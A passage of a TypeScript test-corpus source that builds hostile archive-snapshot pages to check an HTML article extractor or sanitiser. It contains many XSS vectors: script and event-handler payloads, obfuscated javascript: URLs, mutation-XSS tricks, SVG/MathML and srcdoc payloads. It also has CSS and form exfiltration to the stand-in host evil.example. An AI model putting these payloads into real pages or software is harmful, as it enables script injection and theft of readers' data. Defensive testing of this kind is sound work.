/**
 * The hostile snapshot corpus, as source: every case is an archive.today-style snapshot page (shell.ts) around one
 * of the stories in articles.ts, with hostile markup placed where it hurts. `buildCorpus()` renders the pages and
 * the manifest that `cases.ts` loads; the committed files under `pages/` and `cases.json` are its output, and
 * `test/unit/hostile.test.ts` fails when they drift (regenerate with `UPDATE_HOSTILE=1 npx vitest run
 * test/unit/hostile.test.ts`).
 *
 * Conventions a browser harness relies on:
 * - a payload that executes calls `__arTrap(<case number>)` or `alert(<case number>)`;
 * - every request a payload tries goes to `evil.example` (or, for look-alike tricks, a host that is not in the
 *   case's `allowedHosts`);
 * - the vectors are written from DOMPurify's published test vectors (test/fixtures/expect.mjs) and html5sec-style
 *   tricks, rewritten for these pages; none of the files is copied.
 * Pages too big or too binary to review as text carry markers that the manifest's `expand` list replaces at load
 * time (1 MB attributes, 10,000 levels of nesting, NUL bytes and invalid UTF-8).
 */
import { expectedSentences, STORIES, type StoryText } from './articles.js';
import { capturedArticle, P_STYLE, snapshotPage, type Inserts, type ShellOptions } from './shell.js';

export type HostileCategory =
  | 'script'
  | 'event-handler'
  | 'url-scheme'
  | 'mxss'
  | 'archive-wrapper'
  | 'archive-header'
  | 'lying-head'
  | 'svg-mathml'
  | 'srcdoc'
  | 'css'
  | 'form'
  | 'embedded-content'
  | 'meta-link'
  | 'size'
  | 'nesting'
  | 'clobbering'
  | 'encoding'
  | 'inert-markup'
  | 'foreign-request';

/** Replaces `marker` in the page, at load time, with `repeat` × `times`, or with the raw bytes of `hex`. */
export interface Expansion {
  marker: string;
  repeat?: string;
  times?: number;
  hex?: string;
}

/** Facts about the extracted Article that the page lies about. */
export interface ExpectMeta {
  originalUrl?: string | null;
  archivedAt?: string | null;
  notSiteName?: string[];
  /** No published date starting with any of these. */
  notPublished?: string[];
  notByline?: string[];
}

export interface ManifestEntry {
  id: string;
  /** Page file, relative to test/hostile/. */
  file: string;
  /** The address the snapshot is served at. */
  url: string;
  category: HostileCategory;
  attack: string;
  /** Sentences of the legitimate article that must still show. */
  expectedText: string[];
  /** Hosts images may load from: the archive's image hosts. */
  allowedHosts: string[];
  expand?: Expansion[];
  expectMeta?: ExpectMeta;
}

export interface CaseSource {
  id: string;
  category: HostileCategory;
  attack: string;
  /** Index into STORIES. */
  story: number;
  mirror?: string;
  /** Address the snapshot is served at; default `https://<mirror>/<archive id>`. */
  url?: (ctx: CaseContext) => string;
  shell?: (
    ctx: CaseContext,
  ) => Partial<Omit<ShellOptions, 'id' | 'mirror' | 'imageHost' | 'story' | 'captured' | 'body'>>;
  inserts?: (ctx: CaseContext) => Inserts;
  wrap?: (article: string) => string;
  expand?: Expansion[];
  expectMeta?: (ctx: CaseContext) => ExpectMeta;
}

export interface CaseContext {
  /** Archive id (`Hs001`). */
  id: string;
  n: number;
  mirror: string;
  imageHost: string;
  story: StoryText;
  captured: string;
  /** `__arTrap(n)`. */
  trap: string;
  /** `https://evil.example/<n>`. */
  evil: string;
  /** An archived image of this snapshot. */
  image: (name: string) => string;
  /** archive.today's outbound wrapper of `target`, verbatim. */
  outbound: (target: string) => string;
}

const IMAGE_HOST = 'd7kq2mz8x4rw.archive.ph';
const CAPTURED = ['2024-03-05T10:11:12Z', '2023-12-01T06:07:08Z', '2022-07-04T21:22:23Z', '2024-10-02T14:15:16Z'];
const GIF_1X1 = 'data:image/gif;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==';
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const MB = 1024 * 1024;
/** A block dressed exactly like the article's paragraphs (the archive keeps every computed style inline). */
const div = (html: string): string => `<div style="${P_STYLE}">${html}</div>`;
/** Links inside running text (a bare list of links is page furniture and never reaches the article). */
const SENTENCES = [
  'The council discussed the plan at length during its spring session, and the full minutes are online',
  'Several residents wrote to the newspaper about the decision and their letters were printed in full',
  'A local historian has written about the earlier history of the site in a long essay',
  'The budget for the next two years was approved with only one vote against it',
  'Engineers published their assessment of the building after a month of careful surveys',
  'Opening hours for the winter months were announced at the same meeting of the board',
  'Photographs of the work in progress were shared by the volunteers who took part',
  'The regional paper covered the first public meeting about the project in some detail',
];
const prose = (links: readonly string[]): string =>
  links.map((link, i) => div(`${SENTENCES[i % SENTENCES.length]} (see ${link} for the details).`)).join('');
const wrapper = (inner: string): string =>
  `<div class="html1" style="width: 600px;position: relative"><div class="html" style="text-align:left"><div class="body" style="margin:0px">${inner}</div></div></div>`;

export const CASES: readonly CaseSource[] = [
  // ── Classic script vectors in the captured page ──────────────────────────────────────────────────────────────
  {
    id: 'script-elements',
    category: 'script',
    attack:
      'Script elements in every position of the captured article: inline, external, module, legacy FOR/EVENT, XHTML-namespaced, document.write.',
    story: 0,
    inserts: ({ trap, evil }) => ({
      top: `<script>${trap}</script><script src="${evil}/s.js"></script>`,
      after: {
        0: `<script type="module">import "${evil}/m.js"; ${trap}</script><SCRIPT FOR=document EVENT=onreadystatechange>${trap}</SCRIPT>`,
        3: `<div style="display:block"><script type="text/javascript">alert(1)</script></div><script xmlns="http://www.w3.org/1999/xhtml">${trap}</script>`,
      },
      inParagraph: `<script>document.write('<img src="${evil}/w.gif">')</script>`,
      end: `<script>/*<!--*/${trap}//--></script><scrIpt>${trap}</scrIpt>`,
    }),
  },
  {
    id: 'event-handler-attributes',
    category: 'event-handler',
    attack:
      'Event handler attributes (onerror, onload, onmouseover, ontoggle, onfocus+autofocus, onstart, upper and mixed case) on images, spans, details, svg, inputs and links.',
    story: 1,
    inserts: ({ trap, image, outbound }) => ({
      top: `<body onload="${trap}"><div onmouseover="${trap}" style="display:block">Menu</div>`,
      after: {
        0: `<img src="x" onerror="${trap}"/><img src="${image('chart')}" onload="${trap}" alt="archived chart"/>`,
        2: `<details open ontoggle="${trap}"><summary onclick="${trap}">More</summary>Details text.</details><svg onload="${trap}"><rect width="1" height="1"/></svg>`,
        3: `<input autofocus onfocus="${trap}"/><marquee onstart="${trap}">news ticker</marquee><video><source onerror="${trap}"></video><div ONCLICK="${trap}" OnMouseEnter="alert(2)">Shared by 12 readers</div>`,
      },
      inParagraph: `<span onmouseover="${trap}" onfocus="alert(2)" tabindex="0">Hover here.</span> `,
      end: `<a href="${outbound('https%3A//valleyledger.example/related')}" onclick="${trap}" onauxclick="alert(2)">Related</a><form onsubmit="${trap}"><button onfocus="alert(2)" autofocus>Go</button></form>`,
    }),
  },
  {
    id: 'javascript-href-obfuscations',
    category: 'url-scheme',
    attack:
      'javascript: links written directly in the captured page with every obfuscation browsers forgive: case, leading space, tab, newline, entities, &colon;, padded entities, U+2028, NBSP, ideographic space, control characters.',
    story: 2,
    inserts: ({ trap }) => ({
      after: {
        1: prose([
          `<a href="javascript:${trap}">plain</a>`,
          `<a href="JaVaScRiPt:${trap}">mixed case</a>`,
          `<a href=" javascript:${trap}">leading space</a>`,
          `<a href="java&#09;script:${trap}">tab</a>`,
          `<a href="java&#x0A;script:${trap}">newline</a>`,
          `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${trap}">entities</a>`,
          `<a href="&#x6A;avascript&colon;${trap}">named colon</a>`,
          `<a href="&#0000106avascript:${trap}">padded entity</a>`,
          `<a href="\u2028javascript:${trap}">line separator</a>`,
          `<a href="&#xA0;javascript:${trap}">nbsp</a>`,
          `<a href="&#x3000;javascript:${trap}">ideographic space</a>`,
          `<a href="\u0001java\u0003script:${trap}">control characters</a>`,
          `<a href="javascript://%0a${trap}">comment and newline</a>`,
          `<a href="javascript&#58;${trap}">decimal colon</a>`,
        ]),
      },
    }),
  },
  {
    id: 'vbscript-and-data-urls',
    category: 'url-scheme',
    attack:
      'vbscript: and data: URLs in links, images and cite attributes: data:text/html (base64 and plain), data:image/svg+xml with onload, data:image/png.',
    story: 3,
    inserts: ({ trap }) => ({
      after: {
        0: prose([
          `<a href="vbscript:msgbox(4)">vb</a>`,
          `<a href="VBScript:Execute(&quot;x&quot;)">vb mixed case</a>`,
          `<a href="data:text/html;base64,${b64(`<script>${trap}</script>`)}">data html</a>`,
          `<a href="data:text/html,&lt;script&gt;${trap}&lt;/script&gt;">data html plain</a>`,
          `<a href="DATA:text/html,x">data upper case</a>`,
        ]),
        2: [
          `<img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='${trap}'/&gt;" alt="svg data"/>`,
          `<img src="data:text/html;base64,${b64(`<script>${trap}</script>`)}" alt="html data"/>`,
          `<img src="vbscript:msgbox(4)" alt="vb image"/>`,
          '<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==" alt="a pixel"/>',
          `<blockquote cite="javascript:${trap}">A quoted resident said the trees were older than the tramline.</blockquote><q cite="data:text/html,x">Quoted</q>`,
        ].join(''),
      },
    }),
  },
  {
    id: 'outbound-o-links-script-schemes',
    category: 'url-scheme',
    attack:
      'archive.today /o/ outbound wrappers whose target is javascript:, vbscript: or data: (plain, percent-encoded, mixed case, root-relative, other mirrors), on links and an image.',
    story: 0,
    inserts: ({ trap, id, outbound }) => ({
      after: {
        1: prose([
          `<a href="${outbound(`javascript:${trap}`)}">one</a>`,
          `<a href="${outbound(`javascript%3A${trap}`)}">two</a>`,
          `<a href="${outbound(`JaVaScRiPt:${trap}`)}">three</a>`,
          `<a href="/o/${id}/javascript:${trap}">four</a>`,
          `<a href="https://archive.is/o/${id}/vbscript:msgbox(5)">five</a>`,
          `<a href="${outbound(`data:text/html;base64,${b64(`<script>${trap}</script>`)}`)}">six</a>`,
          `<a href="${outbound('data%3Atext/html,x')}">seven</a>`,
          `<a href="${outbound(`javascript://example.com/%0a${trap}`)}">eight</a>`,
          `<a href="${outbound(`%20javascript:${trap}`)}">nine</a>`,
          `<a href="${outbound('https%3A//www.millbrook-courier.example/news/budget')}">the budget story</a>`,
        ]),
        3: `<img src="${outbound(`javascript:${trap}`)}" alt="wrapped script image"/>`,
      },
    }),
  },

  // ── Mutation XSS: markup that changes meaning when parsed, serialised and parsed again ────────────────────────
  {
    id: 'mxss-noscript-comment',
    category: 'mxss',
    attack:
      'noscript whose content is a comment in one parsing mode and an image with onerror in the other (scripting on/off).',
    story: 1,
    inserts: ({ trap }) => ({
      after: { 1: `<b><noscript><!-- </noscript><img src=x onerror=${trap}> --></noscript></b>` },
    }),
  },
  {
    id: 'mxss-noscript-attribute',
    category: 'mxss',
    attack: 'noscript that closes inside an attribute value when scripting is on, releasing an image with onerror.',
    story: 2,
    inserts: ({ trap }) => ({
      after: {
        1: `<b><noscript><a alt="</noscript><img src=x onerror=${trap}>"></noscript></b>`,
        3: `<noscript><p title="</noscript><img src=x onerror=${trap}>"></p></noscript>`,
      },
    }),
  },
  {
    id: 'mxss-svg-style-breakout',
    category: 'mxss',
    attack:
      'style inside svg (elements) versus style in HTML (raw text): attribute values that close the style and open an image with onerror after a namespace switch.',
    story: 3,
    inserts: ({ trap }) => ({
      after: {
        2: [
          `<svg></p><style><a id="</style><img src=1 onerror=${trap}>"></a></style></svg>`,
          `<svg><p><style><g title="</style><img src=x onerror=${trap}>"></g></style></p></svg>`,
          `<svg><style><img src=x onerror=${trap}></style></svg>`,
        ].join(''),
      },
    }),
  },
  {
    id: 'mxss-mathml-mglyph-style',
    category: 'mxss',
    attack:
      'MathML mtext > table > mglyph > style namespace confusion that turns a comment or attribute into a live image with onerror on re-parsing.',
    story: 0,
    inserts: ({ trap }) => ({
      end: [
        `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${trap}&gt;"></mglyph></table></mtext></math>`,
        `<math><mtext><table><mglyph><style><math href=javascript:${trap}>CLICKME</math></style></mglyph></table></mtext></math>`,
      ].join(''),
    }),
  },
  {
    id: 'mxss-form-math-nesting',
    category: 'mxss',
    attack:
      'Nested forms around MathML (form > math > mtext > /form > form > mglyph > style) that re-parse into a different tree with an image and onerror.',
    story: 1,
    inserts: ({ trap }) => ({
      end: [
        `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${trap}></style></mglyph></mtext></math></form>`,
        `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${trap} src>"></path></style></mtext></svg></mglyph></mtext></math></form>`,
      ].join(''),
    }),
  },
  {
    id: 'mxss-textarea-xmp-listing',
    category: 'mxss',
    attack:
      'Raw-text and RCDATA elements (textarea, xmp, listing, noembed, noframes, iframe, title) whose text closes them and opens a live image when re-parsed.',
    story: 2,
    inserts: ({ trap }) => ({
      after: {
        1: [
          `<textarea>notes</textarea><!--</textarea><img src=x onerror=${trap}>-->`,
          `<listing>&lt;img src=x onerror="${trap}"&gt;</listing>`,
          `<xmp><img alt="</xmp><img src=xx onerror=${trap}//"></xmp>`,
          `<noembed><img title="</noembed><img src onerror=${trap}>"></noembed>`,
          `<noframes><img title="</noframes><img src onerror=${trap}>"></noframes>`,
          `<iframe><img title="</iframe><img src onerror=${trap}>"></iframe>`,
          `<title><img title="</title><img src onerror=${trap}>"></title>`,
        ].join(''),
      },
    }),
  },
  {
    id: 'mxss-namespace-confusion-desc',
    category: 'mxss',
    attack:
      'Unknown elements and desc/option inside svg/math that confuse namespaces so an escaped style becomes markup with an onerror image.',
    story: 3,
    inserts: ({ trap }) => ({
      end: [
        `a<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=${trap}>"></noscript></desc></xss></svg>`,
        `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src='#' onerror='${trap}'>"></a></style></mtext></svg></mglyph></FAKEFAKE></option></mtext></math>`,
      ].join(''),
    }),
  },
  {
    id: 'mxss-svg-cdata',
    category: 'mxss',
    attack:
      'CDATA sections in svg and math whose end hides inside an attribute, so an image with onerror is live in one parse and text in the other.',
    story: 0,
    inserts: ({ trap }) => ({
      after: {
        2: `<svg><![CDATA[><image xlink:href="]]><img src=x onerror=${trap}//"></svg><math><![CDATA[</math><img src=x onerror=${trap}>]]></math>`,
      },
    }),
  },
  {
    id: 'mxss-comment-and-bogus-markup',
    category: 'mxss',
    attack:
      'Comments ended by --!>, comments inside attribute values, <![ and <? bogus comments, </ bogus end tags and conditional comments that hide or release script.',
    story: 1,
    inserts: ({ trap }) => ({
      after: {
        0: [
          `<!-- \`<img/src=xxx onerror=${trap}//--!>`,
          `<!--<img src="--><img src=x onerror=${trap}//">`,
          `<![><img src="]><img src=x onerror=${trap}//">`,
          `<? foo="><script>${trap}</script>">`,
          `</ foo="><script>${trap}</script>">`,
          `<!--[if]><script>${trap}</script -->`,
          `<!--[if<img src=x onerror=${trap}//]> -->`,
        ].join('\n'),
      },
    }),
  },
  {
    id: 'mxss-backtick-and-broken-attributes',
    category: 'mxss',
    attack:
      'Backtick-quoted and broken attribute syntax (id/=, stray quotes, empty names) that older serialisers turned into live handlers.',
    story: 2,
    inserts: ({ trap }) => ({
      after: {
        3: [
          `<img src="x\` \`<script>${trap}</script>"\` \`>`,
          `<img src onerror /" '"= alt=${trap}//">`,
          `<img src=x id/=' onerror=${trap}//'>`,
          `<div id="x"><input value="\`\`onmouseover=${trap}"></div>`,
          `<a href=http://foo.bar/#x=\`y></a><img alt="\`><img src=xx onerror=${trap}></a>">`,
          `<img """><script>${trap}</script>">`,
        ].join(''),
      },
    }),
  },
  {
    id: 'mxss-table-foster-parenting',
    category: 'mxss',
    attack:
      'Content foster-parented out of tables (images with onerror, scripts, styles, javascript: links) and select/option/template tricks that move markup on re-parsing.',
    story: 3,
    inserts: ({ trap, evil }) => ({
      after: {
        4: [
          `<table><tr><td>cell</td></tr><img src=x onerror=${trap}><script>${trap}</script><style>@import "${evil}/t.css";</style></table>`,
          `<table><caption><svg><style><img src=x onerror=${trap}></style></svg></caption></table>`,
          `<table><a href="javascript:${trap}">fostered link</a><tr><td>x</td></tr></table>`,
        ].join(''),
      },
      end: `<select><template><img src=x onerror=${trap}></template><option><iframe></select><b><script>${trap}</script></b>`,
    }),
  },

  // ── Payloads split across the archive's wrappers (inlined frames are nested div.html1 > div.html > div.body) ──
  {
    id: 'wrapper-split-anchor',
    category: 'archive-wrapper',
    attack:
      'javascript: links (direct and through /o/) whose content is a nested archive frame wrapper, so unwrapping the frame leaves the link around article text and an image with onerror.',
    story: 0,
    inserts: ({ trap, outbound, image }) => ({
      after: {
        1: [
          `<a href="javascript:${trap}" style="display:block">${wrapper(div('Read the statement of the council on the library budget.'))}</a>`,
          `<a href="${outbound(`javascript:${trap}`)}">${wrapper(`<img src="${image('frame')}" onerror="${trap}" alt="framed image"/>`)}</a>`,
        ].join(''),
      },
    }),
  },
  {
    id: 'wrapper-nested-frame-head',
    category: 'archive-wrapper',
    attack:
      "An inlined frame whose div.html carries the frame's head (meta refresh to javascript:, base href to a foreign host, stylesheet link, @import, script, a description meta with markup), plus hostile metas in the outer div.html.",
    story: 1,
    shell: ({ trap, evil }) => ({
      htmlMeta: `<meta name="description" content="Night trains are back &quot;&gt;&lt;img src=x onerror=${trap}&gt;"/><meta http-equiv="refresh" content="0;url=${evil}/refresh"/>`,
    }),
    inserts: ({ trap, evil }) => ({
      after: {
        2: [
          '<div style="display:block;width:640px"><div class="html1" style="width: 640px"><div class="html" style="text-align:left">',
          `<meta http-equiv="refresh" content="0;url=javascript:${trap}"/><base href="${evil}/frame/"/><link rel="stylesheet" href="${evil}/frame.css"/>`,
          `<style>@import url(${evil}/frame-import.css);</style><script>${trap}</script>`,
          `<meta name="description" content="&quot;&gt;&lt;script&gt;${trap}&lt;/script&gt;"/>`,
          `<div class="body" style="margin:0px" onload="${trap}">`,
          div('An embedded notice from the transport board: the timetable for the winter months is now online.'),
          '<img src="relative/frame-image.jpg" alt="relative image"/><a href="relative/page.html">relative link</a>',
          '</div></div></div></div>',
        ].join(''),
      },
    }),
  },
  {
    id: 'wrapper-split-escaped-markup',
    category: 'archive-wrapper',
    attack:
      'Escaped markup (&lt;script&gt;, &lt;img onerror&gt;, &lt;svg onload&gt;) split between an outer block and a nested frame wrapper, so flattening the wrappers joins the pieces into one string of tag-like text.',
    story: 2,
    inserts: ({ trap }) => ({
      after: {
        1: [
          div(`&lt;scr${wrapper(`ipt&gt;${trap}&lt;/scr`)}ipt&gt;`),
          div(`&lt;img src=x one${wrapper(`rror=${trap}&gt;`)}`),
          div(`<span>&lt;</span>${wrapper(`svg onload=${trap}&gt;`)}`),
        ].join(''),
      },
    }),
  },
  {
    id: 'wrapper-svg-across-frames',
    category: 'archive-wrapper',
    attack:
      'svg foreignObject and MathML mtext whose children are archive frame wrappers holding style, iframe and mglyph/style payloads, so removing the wrappers changes which namespace the payload lands in.',
    story: 3,
    inserts: ({ trap }) => ({
      after: {
        2: [
          `<svg><foreignObject>${wrapper(`<style><img src=x onerror=${trap}></style><iframe src="javascript:${trap}"></iframe>`)}</foreignObject></svg>`,
          `<math><mtext>${wrapper(`<mglyph><style><img src=x onerror=${trap}></style></mglyph>`)}</mtext></math>`,
        ].join(''),
      },
    }),
  },

  // ── The archive's own header carrying hostile values ─────────────────────────────────────────────────────────
  {
    id: 'header-saved-from-markup',
    category: 'archive-header',
    attack:
      'The "Saved from" input holds a valid-looking original URL followed by markup ("><img onerror><script>) and there is no long link, so the original URL comes from it.',
    story: 0,
    shell: ({ story, trap }) => ({
      bookmark: null,
      longLink: null,
      savedFrom: `${story.original}&quot;&gt;&lt;img src=x onerror=${trap}&gt;&lt;script&gt;${trap}&lt;/script&gt;`,
    }),
  },
  {
    id: 'header-saved-from-javascript',
    category: 'archive-header',
    attack:
      'Every original-URL source of the header and head is a javascript: URL: "Saved from", link rel=bookmark and #SHARE_LONGLINK.',
    story: 1,
    shell: ({ trap }) => ({
      savedFrom: `javascript:${trap}//https://valleyledger.example/`,
      bookmark: `http://archive.today/20231201060708/javascript:${trap}`,
      longLink: `http://archive.today/2023.12.01-060708/JavaScript:${trap}`,
    }),
  },
  {
    id: 'header-capture-time-markup',
    category: 'archive-header',
    attack:
      'The capture <time> has markup in its datetime attribute ("><svg onload>) and an image with onerror and a script in its text.',
    story: 2,
    shell: ({ trap }) => ({
      timeDatetime: `2022-07-04T21:22:23Z&quot;&gt;&lt;svg onload=${trap}&gt;`,
      timeText: `<img src=x onerror=${trap}>4 Jul 2022 <script>${trap}</script>`,
    }),
  },
  {
    id: 'header-capture-time-out-of-range',
    category: 'archive-header',
    attack:
      'No long link anywhere; the capture <time> holds no date and the hidden capture-time input holds a number far beyond the largest valid Date.',
    story: 3,
    shell: () => ({
      bookmark: null,
      longLink: null,
      timeDatetime: 'not a date',
      timeText: 'some day',
      captureMs: '99999999999999999999',
    }),
  },
  {
    id: 'header-share-longlink-hostile',
    category: 'archive-header',
    attack:
      '#SHARE_LONGLINK (read before "Saved from") carries a long snapshot address whose original URL ends in "><script>; no link rel=bookmark.',
    story: 0,
    mirror: 'archive.is',
    shell: ({ trap }) => ({
      bookmark: null,
      longLink: `http://archive.today/2024.03.05-101112/https://www.millbrook-courier.example/news/&quot;&gt;&lt;script&gt;${trap}&lt;/script&gt;`,
    }),
  },

  // ── A head that lies ─────────────────────────────────────────────────────────────────────────────────────────
  {
    id: 'head-lies',
    category: 'lying-head',
    attack:
      'The head claims another site, author and date (og:site_name, article:published_time, author metas, JSON-LD), sets <base href> to a foreign host, refreshes to javascript:, loosens CSP and loads a stylesheet; the body uses relative image and link addresses.',
    story: 1,
    shell: ({ trap, evil }) => ({
      siteName: 'The Daily Truth',
      publishedMeta: '1999-12-31T23:59:59Z',
      headExtra: [
        `<base href="${evil}/base/"/>`,
        `<meta http-equiv="refresh" content="0; url=javascript:${trap}"/>`,
        `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval'"/>`,
        '<meta name="author" content="Fake Author"/><meta property="article:author" content="Fake Author"/><meta name="date" content="1999-12-31"/>',
        '<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","headline":"Fake headline","author":{"@type":"Person","name":"Fake Author"},"datePublished":"1999-12-31","publisher":{"@type":"Organization","name":"The Daily Truth"}}</script>',
        `<link rel="stylesheet" href="${evil}/head.css"/><style>body{background:url(${evil}/head.png)}</style><meta http-equiv="set-cookie" content="a=b"/>`,
      ].join(''),
    }),
    inserts: ({ id }) => ({
      after: {
        1: `<figure style="display:block"><img src="/${id}/3f786850e387550fdab836ed7e6dc881de23001b.jpg" alt="root-relative archived image"/><figcaption>The refitted carriages at the depot.</figcaption></figure>`,
        3: div(
          `See <a href="/o/${id}/https%3A//valleyledger.example/timetable">the timetable</a> and <a href="about/contact.html">contact the desk</a>.`,
        ),
      },
    }),
    expectMeta: () => ({ notSiteName: ['The Daily Truth'], notPublished: ['1999'], notByline: ['Fake Author'] }),
  },
  {
    id: 'head-base-javascript',
    category: 'lying-head',
    attack:
      '<base href="javascript:..."> in the head and in the captured body, with relative links and images that would resolve into script URLs.',
    story: 2,
    shell: ({ trap }) => ({ headExtra: `<base href="javascript:${trap}//"/>` }),
    inserts: ({ trap }) => ({
      top: `<base href="javascript:${trap}//"/>`,
      after: {
        1: div(
          `<a href="/. /,${trap}//#">relative</a> <a href="page.html">page</a> <img src="img.jpg" alt="relative"/>`,
        ),
      },
    }),
  },

  // ── SVG and MathML ───────────────────────────────────────────────────────────────────────────────────────────
  {
    id: 'svg-script-vectors',
    category: 'svg-mathml',
    attack:
      'svg script elements (inline and href), javascript: links through href and xlink:href, foreignObject with iframe and onerror image, external svg image, onload on g.',
    story: 3,
    inserts: ({ trap, evil }) => ({
      after: {
        1: [
          `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="40"><script>${trap}</script><script href="${evil}/svg.js"/>`,
          `<a xlink:href="javascript:${trap}"><text x="0" y="15">svg link</text></a><a href="javascript:${trap}"><rect width="10" height="10"/></a>`,
          `<foreignObject width="100" height="20"><iframe src="javascript:${trap}"></iframe><img src="x" onerror="${trap}"/></foreignObject>`,
          `<image href="${evil}/svg-image.svg" width="10" height="10"/><g onload="${trap}"/></svg>`,
        ].join(''),
      },
    }),
  },
  {
    id: 'svg-animation-and-use',
    category: 'svg-mathml',
    attack:
      'svg animate/set that write javascript: into href or script into event attributes, use with data: and foreign references, feImage, XML Events handler.',
    story: 0,
    inserts: ({ trap, evil }) => ({
      after: {
        2: [
          `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="30">`,
          `<a><animate attributeName="href" values="javascript:${trap}"/><text x="20" y="20">animated link</text></a>`,
          `<set attributeName="onmouseover" to="${trap}"/><animate attributeName="onunload" to="alert(29)"/>`,
          `<use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><script>${trap}</script></svg>`)}#x"/>`,
          `<use xlink:href="${evil}/use.svg#x"/>`,
          `<feImage><set attributeName="xlink:href" to="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg"><script>${trap}</script></svg>`)}"/></feImage>`,
          `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${trap}</handler></svg>`,
        ].join(''),
      },
    }),
  },
  {
    id: 'mathml-vectors',
    category: 'svg-mathml',
    attack:
      'MathML href and xlink:href to javascript:, maction statusline, annotation-xml encoding=text/html holding script and an onerror image.',
    story: 1,
    inserts: ({ trap }) => ({
      after: {
        1: [
          `<math href="javascript:${trap}">CLICKME</math>`,
          `<math><maction actiontype="statusline" xlink:href="javascript:${trap}">CLICKME<mtext>http://valleyledger.example</mtext></maction></math>`,
          `<math><annotation-xml encoding="text/html"><script>${trap}</script><img src=x onerror=${trap}></annotation-xml></math>`,
          `<math><mi xlink:href="data:x,<script>${trap}</script>">x</mi></math>`,
        ].join(''),
      },
    }),
  },

  // ── Embedded documents, CSS, forms, objects ──────────────────────────────────────────────────────────────────
  {
    id: 'iframe-srcdoc',
    category: 'srcdoc',
    attack:
      'iframe srcdoc with script and onerror image (with and without sandbox), srcdoc on a div, iframes to a foreign page, javascript: and data:text/html.',
    story: 2,
    inserts: ({ trap, evil }) => ({
      after: {
        0: [
          `<iframe srcdoc="&lt;script&gt;${trap}&lt;/script&gt;"></iframe>`,
          `<iframe srcdoc="&lt;img src=x onerror=${trap}&gt;" sandbox="allow-scripts allow-same-origin"></iframe>`,
          `<div srcdoc="<script>${trap}</script>" style="display:block">The mill opens to visitors every first Saturday.</div>`,
          `<iframe src="${evil}/frame.html"></iframe><iframe src="javascript:${trap}"></iframe>`,
          `<iframe src="data:text/html,&lt;script&gt;${trap}&lt;/script&gt;"></iframe><frame src="${evil}/frame2.html">`,
        ].join(''),
      },
    }),
  },
  {
    id: 'style-import-and-exfiltration',
    category: 'css',
    attack:
      'style elements with @import, url() backgrounds, @font-face, attribute-selector exfiltration, expression() and behavior:url(), inside the article and inside svg.',
    story: 3,
    inserts: ({ trap, evil }) => ({
      after: {
        1: [
          `<style>@import url("${evil}/import.css");</style>`,
          `<style>@import '${evil}/b.css';body{background:url(${evil}/bg.png)}@font-face{font-family:x;src:url(${evil}/font.woff)}input[value^="a"]{background:url(${evil}/leak?a)}</style>`,
          `<style>*{x:expression(${trap})}</style>`,
          div(`<style>div{behavior:url(${evil}/b.htc)}</style>Tickets for the guided walks go on sale on Monday.`),
          `<svg><style>@import url(${evil}/svg.css);</style></svg>`,
        ].join(''),
      },
    }),
  },
  {
    id: 'form-action-and-controls',
    category: 'form',
    attack:
      'Forms posting to a foreign host or javascript:, formaction on buttons and submit inputs, an image input loading a foreign image, isindex.',
    story: 0,
    inserts: ({ trap, evil }) => ({
      after: {
        3: [
          `<form action="${evil}/collect" method="post" style="display:block"><label>Email <input type="email" name="email" value="reader@example.org"/></label>`,
          `<input type="password" name="pw"/><input type="image" src="${evil}/submit.png"/><button formaction="javascript:${trap}">Subscribe</button>`,
          `<input type="submit" formaction="${evil}/b" value="Send"/></form>`,
          `<form action="javascript:${trap}"><button>Go</button></form><isindex action="javascript:${trap}" prompt="Search">`,
        ].join(''),
      },
    }),
  },
  {
    id: 'object-embed-iframe',
    category: 'embedded-content',
    attack:
      'object (flash, data:text/html), embed (foreign, javascript:), iframe, applet, portal and fencedframe pointing at foreign hosts.',
    story: 1,
    inserts: ({ trap, evil }) => ({
      after: {
        2: [
          `<object data="${evil}/movie.swf" type="application/x-shockwave-flash"><param name="movie" value="${evil}/movie.swf"/><param name="allowScriptAccess" value="always"/>Flash fallback text</object>`,
          `<embed src="${evil}/e.swf" type="application/x-shockwave-flash"/><embed src="javascript:${trap}"/>`,
          `<object data="data:text/html;base64,${b64(`<script>${trap}</script>`)}"></object>`,
          `<iframe src="${evil}/frame.html" width="600" height="400"></iframe><applet code="Evil.class" codebase="${evil}/"></applet>`,
          `<portal src="${evil}/portal"></portal><fencedframe src="${evil}/ff"></fencedframe>`,
        ].join(''),
      },
    }),
  },
  {
    id: 'meta-and-link-in-body',
    category: 'meta-link',
    attack:
      'meta refresh (foreign and javascript:), CSP, set-cookie and charset metas, and link rel=prefetch/preload/dns-prefetch/preconnect/stylesheet/import/modulepreload, plus a base href, all inside the captured body.',
    story: 2,
    inserts: ({ trap, evil }) => ({
      after: {
        1: [
          `<meta http-equiv="refresh" content="0;url=${evil}/refresh"/><meta http-equiv="refresh" content="1;url=javascript:${trap}"/>`,
          `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'"/><meta http-equiv="set-cookie" content="tracking=1"/><meta charset="x-imap4-modified-utf7"/>`,
